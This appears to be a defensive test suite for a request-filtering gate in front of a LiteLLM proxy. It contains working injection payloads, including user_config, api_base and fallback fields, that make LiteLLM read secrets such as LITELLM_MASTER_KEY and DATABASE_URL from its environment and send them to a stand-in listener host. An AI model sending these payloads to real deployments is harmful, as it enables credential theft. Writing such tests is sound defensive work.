import { resolve } from "node:path";
import fc from "fast-check";
import { exampleApiKey, exampleConfig, modelOf } from "../support/config.ts";
import * as docker from "../support/docker.ts";
import { throughGate } from "../support/gate.ts";
import { asks } from "../support/gateway-asks.ts";
import { type RealGateway, masterKey, realGateway } from "../support/gateway.ts";
import { sha256 } from "../support/guarded.ts";

jest.setTimeout(120_000);

const model = modelOf(exampleConfig());
const keys = { narrow: `sk-${"n".repeat(40)}`, chat: `sk-${"c".repeat(40)}` };
const rows = [
  { name: "narrow", models: [] },
  { name: "chat", models: ["gpt-4o-mock"] },
].map(({ name, models }) => ({
  name,
  models,
  keyHash: sha256(keys[name as keyof typeof keys]),
  tools: { db: ["list_schemas"] },
  expires: null,
}));
const here = "http://listener:8000";
const chatPath = "/v1/chat/completions";
const responsesPath = "/v1/responses";
const stolen = (variable: string) => ({ api_key: `os.environ/${variable}`, api_base: `${here}/p` });
const planted = (variable: string) => ({
  user_config: {
    model_list: [{ model_name: "*", litellm_params: { model: "openai/x", ...stolen(variable) } }],
  },
});
const said = { messages: [{ role: "user", content: "x" }], input: "x" };

/** LiteLLM with every model and server granted to the keys: what stands is what is looked at. */
function withAttacker(gate: boolean): {
  gateway: () => RealGateway;
  send: (path: string, key: string, body: unknown) => Promise<{ status: number; text: string }>;
  seen: () => Promise<[string, string, string | null, string][]>;
  deployments: () => Promise<unknown>;
} {
  let gateway: RealGateway | undefined;
  let url = "";
  const listener = docker.testName("listener");
  const found = (): RealGateway => {
    if (gateway === undefined) throw new Error("it has not come up");
    return gateway;
  };
  const { ask } = asks(found);
  beforeAll(async () => {
    gateway = await realGateway(model, { rows, gate });
    await docker.start(listener, [
      "--network",
      gateway.network,
      "--network-alias",
      "listener",
      "--publish",
      "127.0.0.1::8000",
      "--volume",
      `${resolve("tests/support/litellm/listener.py")}:/srv/listener.py:ro`,
      docker.image(docker.images.python),
      "python3",
      "/srv/listener.py",
    ]);
    url = await docker.published(listener, 8000);
    await docker.until(listener, 30, async () => (await fetch(`${url}/seen`)).ok);
    for (const [name, key] of Object.entries(keys))
      expect((await ask("/key/generate", masterKey, { key, key_alias: name })).status).toBe(200);
  }, 240_000);
  afterAll(async () => {
    await docker.removeAll([listener], []);
    await gateway?.remove();
  }, 60_000);
  return {
    gateway: found,
    send: async (path, key, body) => {
      const answer = await ask(path, key, body);
      return { status: answer.status, text: await answer.text() };
    },
    seen: async () => (await (await fetch(`${url}/seen`)).json()) as never,
    deployments: async () => {
      const { data } = (await (await ask("/model/info", masterKey)).json()) as {
        data: { model_name: string; litellm_params: unknown }[];
      };
      return data.map(({ model_name: name, litellm_params: params }) => [name, params]);
    },
  };
}

docker.describeWithDocker("the gate, on LiteLLM 1.77.3", () => {
  const { gateway, send, seen, deployments } = withAttacker(true);

  const attacks: readonly (readonly [string, object])[] = [
    ["S1: another router, with the master key", planted("LITELLM_MASTER_KEY")],
    ["S1: and with the database's URL", planted("DATABASE_URL")],
    ["S1: with a model of the row", { model: "gpt-4o-mock", ...planted("LITELLM_MASTER_KEY") }],
    ["S1: the pair at the top", { model: "gpt-4o-mock", ...stolen("LITELLM_MASTER_KEY") }],
    [
      "S1: in a fallback",
      { model: "gpt-4o-mock", fallbacks: [{ model: "openai/x", ...stolen("LITELLM_MASTER_KEY") }] },
    ],
    [
      "S1: a provider that fetches images",
      {
        model: "gpt-4o-mock",
        custom_llm_provider: "anthropic",
        messages: [
          { role: "user", content: [{ type: "image_url", image_url: { url: `${here}/i` } }] },
        ],
      },
    ],
    ["S2: a deployment in the router", { model: "gpt-4o-mock", api_key: "x", api_base: here }],
    [
      "S6: a model outside the row",
      {
        model: "gpt-4o-mock",
        mock_testing_context_fallbacks: true,
        context_window_fallbacks: [{ "gpt-4o-mock": ["gpt-4o"] }],
      },
    ],
    ["S7: a price", { model: "gpt-4o-mock", input_cost_per_token: -1000 }],
  ];
  it.each(
    attacks.flatMap(([name, body]) =>
      [chatPath, responsesPath].map((path) => [name, path, body] as const),
    ),
  )("%s, at %s", async (_, path, body) => {
    const before = await deployments();
    for (const key of Object.values(keys)) {
      const { status, text } = await send(path, key, { ...said, ...body });
      expect(status).toBe(400);
      expect(text).toContain('"type": "mcp_gateway"');
    }
    expect(await seen()).toEqual([]);
    expect(await deployments()).toEqual(before);
  });

  it("lets requests through that say what clients say", async () => {
    const chat = await send(chatPath, keys.chat, {
      model: "gpt-4o-mock",
      messages: said.messages,
      temperature: 0,
      user: "me",
      n: 1,
      tools: [{ type: "function", function: { name: "f", parameters: { type: "object" } } }],
    });
    expect(chat.status).toBe(200);
    const answer = await send(responsesPath, keys.chat, {
      model: "gpt-4o-mock",
      input: "Call db-list_schemas {}",
      store: false,
      tools: [
        {
          type: "mcp",
          server_label: "gateway",
          server_url: "litellm_proxy",
          require_approval: "never",
        },
      ],
    });
    expect([answer.status, answer.text.includes("public")]).toEqual([200, true]);
    expect((await send("/v1/models", keys.chat, undefined)).status).toBe(200);
    expect(
      (await send("/mcp/", keys.chat, { jsonrpc: "2.0", id: 1, method: "tools/list" })).status,
    ).toBe(200);
  });

  it("knows every name that this LiteLLM reads from a request: allowed or refused, none dropped", async () => {
    const find = `import importlib.util as u, runpy, sys; sys.argv = ["v", u.find_spec("litellm").submodule_search_locations[0]]; runpy.run_path("/srv/v.py", run_name="__main__")`;
    const { stdout } = await docker.runOnce([
      "--volume",
      `${resolve("tests/support/litellm/vocabulary.py")}:/srv/v.py:ro`,
      "--entrypoint",
      "python3",
      docker.image(docker.images.litellm),
      "-c",
      find,
    ]);
    const names = Object.keys(JSON.parse(stdout) as object);
    // The walk itself works.
    expect(names.length).toBeGreaterThan(600);
    for (const known of ["user_config", "mock_testing_fallbacks", "litellm_credential_name"])
      expect(names).toContain(known);
    const base = { chat: { model: "m", messages: [] }, responses: { model: "m", input: "x" } };
    const all = await throughGate(
      names.flatMap((name) => [
        { path: chatPath, body: JSON.stringify({ ...base.chat, [name]: {} }) },
        { path: responsesPath, body: JSON.stringify({ ...base.responses, [name]: {} }) },
      ]),
    );
    const dropped = all.flatMap(({ log }) => log.filter(({ gate }) => gate === "dropped"));
    expect(dropped).toEqual([]);
  });

  it("holds for whatever is made of those names", async () => {
    const { default: refused } = await import("../../guard/gate_refused.json", {
      with: { type: "json" },
    });
    const names = fc.constantFrom(
      ...refused.everywhere,
      ...refused.top,
      "model",
      "messages",
      "input",
      "tools",
      "stream",
      "text",
      "reasoning",
      "tool_choice",
      "response_format",
      "prediction",
      "audio",
      "image_url",
    );
    const value = fc.letrec((tie) => ({
      any: fc.oneof(
        { maxDepth: 4 },
        fc.constantFrom<unknown>(here, `${here}/v1`, "os.environ/LITELLM_MASTER_KEY", -1000, true),
        fc.constantFrom<unknown>("gpt-4o-mock", "gpt-4o", "openai/x", "x", 1, null, "user"),
        fc.dictionary(names, tie("any"), { maxKeys: 4 }),
        fc.array(tie("any"), { maxLength: 3 }),
      ),
    })).any;
    const body = fc.dictionary(names, value, { minKeys: 1, maxKeys: 6 });
    const request = fc.record({
      body: fc.oneof(
        body,
        body.map((more) => ({ model: "gpt-4o-mock", ...said, ...more })),
      ),
      path: fc.constantFrom(chatPath, responsesPath, "/mcp/"),
      key: fc.constantFrom(...Object.values(keys)),
    });
    const before = await deployments();
    await fc.assert(
      fc.asyncProperty(request, async ({ body: sent, path, key }) => {
        const { text } = await send(path, key, sent);
        for (const secret of [masterKey, exampleApiKey, "example1"])
          expect(text).not.toContain(secret);
      }),
      { numRuns: 200 },
    );
    expect(await seen()).toEqual([]);
    expect(await deployments()).toEqual(before);
    const { sql } = asks(gateway);
    const spend = 'select count(*) from "LiteLLM_VerificationToken" where spend < 0';
    expect(await sql(spend, "-U", "postgres", "-d", "litellm")).toBe("0");
  });
});

docker.describeWithDocker(
  "LiteLLM's environment when it serves, with the gate switched off",
  () => {
    const { send, seen } = withAttacker(false);

    it.each(["LITELLM_MASTER_KEY", "DATABASE_URL", "LITELLM_SALT_KEY", "MODEL_KEY_GPT_4O"])(
      "has no %s",
      async (variable) => {
        for (const path of [chatPath, responsesPath]) {
          await send(path, keys.narrow, { ...said, ...planted(variable) });
          await send(path, keys.chat, { ...said, model: "gpt-4o-mock", ...stolen(variable) });
        }
        // The attack works as far as that: with the gate nothing comes here at all.
        const requests = await seen();
        expect(requests.length).toBeGreaterThan(0);
        for (const secret of [masterKey, exampleApiKey, "example1", "y".repeat(40)])
          expect(JSON.stringify(requests)).not.toContain(secret);
      },
    );
  },
);
